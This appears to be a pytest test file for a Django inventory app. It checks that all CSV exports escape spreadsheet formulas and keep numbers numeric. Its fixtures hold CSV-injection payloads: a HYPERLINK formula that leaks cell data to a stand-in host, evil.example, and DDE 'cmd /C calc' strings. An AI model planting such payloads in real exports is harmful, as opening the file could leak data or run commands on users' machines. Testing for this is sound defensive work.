"""Every CSV the app produces neutralises formula-like text (a spreadsheet would run
``=HYPERLINK(...)``) and leaves numbers as numbers: the journal, stock at a date, the losses
report, the inventory export, and the admin's exports, in both CSV variants."""

import csv
import io
from decimal import Decimal, InvalidOperation

import pytest

from core.admin_csv import SpreadsheetCSV, StockroomCSV, cell_text, unescape_text
from core.csv_export import FORMULA_PREFIXES, SPREADSHEET, STANDARD
from inventory.services import StockQuantity, stock_adjust, stock_receive
from tests.factories import (
    ProductFactory,
    SupplierFactory,
    UserFactory,
    VariantFactory,
    WarehouseFactory,
)
from tests.test_admin import admin_export

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
#: One payload per formula prefix of the contract.
PAYLOADS = [HYPERLINK] + [f"{prefix}cmd|' /C calc'!A0" for prefix in FORMULA_PREFIXES[1:]]


def parse(body: bytes, delimiter=",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=delimiter))


def body_of(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def is_number(cell: str, decimal_point=".") -> bool:
    try:
        Decimal(cell.replace(decimal_point, "."))
    except InvalidOperation:
        return False
    return True


def assert_safe(rows, payload, numeric_columns, decimal_point="."):
    """No text cell starts like a formula; the payload comes out prefixed with a quote; numeric
    cells parse as numbers (a negative quantity keeps its minus sign)."""
    header, *data = rows
    numeric = {header.index(name) for name in numeric_columns}
    seen_payload = False
    for row in data:
        for index, cell in enumerate(row):
            if index in numeric:
                assert cell == "" or is_number(cell, decimal_point), (header[index], cell)
            else:
                assert not cell.startswith(FORMULA_PREFIXES), (header[index], cell)
            seen_payload |= cell == "'" + payload
    assert seen_payload, f"{payload!r} not found escaped"


@pytest.fixture(params=PAYLOADS, ids=["=", "+", "-", "@", "tab", "cr"])
def payload(request):
    return request.param


@pytest.fixture
def dangerous(payload):
    """Formula-like text in every text field the CSVs carry, and a negative quantity."""
    user = UserFactory(username="@clerk", first_name=payload)
    variant = VariantFactory(product__name=payload, name=payload)
    warehouse = WarehouseFactory(code="-WH", name=payload, address=payload)
    stock_receive(
        warehouse=warehouse,
        lines=[StockQuantity(variant, 5, Decimal("1.50"))],
        reference=payload,
        note=payload,
        user=user,
    )
    stock_adjust(variant=variant, warehouse=warehouse, quantity=-2, reason="loss", note=payload)
    SupplierFactory(name=payload, email="evil@example.com")
    ProductFactory(name=payload, description=payload)
    return {"variant": variant, "warehouse": warehouse}


@pytest.fixture
def superuser(client):
    user = UserFactory(is_staff=True, is_superuser=True)
    client.force_login(user)
    return user


@pytest.mark.parametrize("spreadsheet", [False, True], ids=["standard", "spreadsheet"])
@pytest.mark.parametrize(
    ("url", "numeric"),
    [
        ("/movements/export.csv", ["Quantity", "Balance after"]),
        ("/inventory/at/export.csv", ["On hand", "Unit cost", "Value"]),
        (
            "/inventory/export.csv",
            ["Available", "Reserved", "Locked", "Total", "Incoming", "Alert threshold"],
        ),
    ],
    ids=["journal", "stock-at-date", "inventory"],
)
def test_app_csv_exports_escape_formulas(
    client, superuser, dangerous, payload, url, numeric, spreadsheet
):
    response = client.get(url + ("?format=spreadsheet" if spreadsheet else ""))
    assert response.status_code == 200

    body = body_of(response)
    delimiter, point = (";", ",") if spreadsheet else (",", ".")
    assert body.startswith(b"\xef\xbb\xbf") == spreadsheet
    assert_safe(parse(body, delimiter), payload, numeric, point)


def test_journal_keeps_the_negative_quantity_a_number(client, superuser, dangerous):
    rows = parse(body_of(client.get("/movements/export.csv")))

    assert [row[7] for row in rows[1:]] == ["5.000", "-2.000"]
    assert [row[4] for row in rows[1:]] == ["'-WH", "'-WH"]  # a code is text


@pytest.mark.parametrize("file_format", ["0", "1"], ids=["standard", "spreadsheet"])
@pytest.mark.parametrize(
    ("changelist", "numeric"),
    [
        ("/admin/catalog/variant/", ["Alert threshold", "Average cost", "Active"]),
        (
            "/admin/catalog/product/",
            [
                "ID",
                "Default alert threshold",
                "Weight (kg)",
                "Length (cm)",
                "Width (cm)",
                "Height (cm)",
                "Active",
            ],
        ),
        ("/admin/catalog/supplier/", ["Active"]),
        ("/admin/warehouses/warehouse/", ["Active", "Allow negative stock"]),
        (
            "/admin/inventory/stockline/",
            [
                "Available",
                "Reserved",
                "Locked",
                "Total",
                "Incoming",
                "Alert threshold in this warehouse",
            ],
        ),
        ("/admin/inventory/movement/", ["Quantity", "Balance after", "Unit cost"]),
    ],
    ids=["variants", "products", "suppliers", "warehouses", "stock-lines", "movements"],
)
def test_admin_exports_escape_formulas(
    client, superuser, dangerous, payload, changelist, numeric, file_format
):
    response = admin_export(client, changelist, file_format)
    assert response.status_code == 200

    spreadsheet = file_format == "1"
    delimiter, point = (";", ",") if spreadsheet else (",", ".")
    assert response.content.startswith(b"\xef\xbb\xbf") == spreadsheet
    assert_safe(parse(response.content, delimiter), payload, numeric, point)


def test_cells_by_type():
    assert cell_text("=1+1", STANDARD) == "'=1+1"
    assert cell_text("plain", STANDARD) == "plain"
    assert cell_text(Decimal("-1.500"), STANDARD) == "-1.500"
    assert cell_text(Decimal("-1.500"), SPREADSHEET) == "-1,500"
    assert cell_text(-3, STANDARD) == "-3"
    assert cell_text(True, STANDARD) == "1"
    assert cell_text(None, STANDARD) == ""


def test_reading_back_undoes_the_escape_only():
    assert unescape_text("'=SUM(A1)") == "=SUM(A1)"
    assert unescape_text("'quoted") == "'quoted"
    assert unescape_text("-5") == "-5"


def test_admin_formats_write_headers_safely_and_round_trip():
    import tablib

    data = tablib.Dataset(headers=["Name", "Amount"])
    data.append(["=cmd", Decimal("1.5")])

    standard = StockroomCSV().export_data(data)
    spreadsheet = SpreadsheetCSV().export_data(data)

    assert standard == "Name,Amount\r\n'=cmd,1.5\r\n"
    assert spreadsheet == "\ufeffName;Amount\r\n'=cmd;1,5\r\n"
    assert list(StockroomCSV().create_dataset(standard)) == [("=cmd", "1.5")]
    assert list(SpreadsheetCSV().create_dataset(spreadsheet)) == [("=cmd", "1.5")]
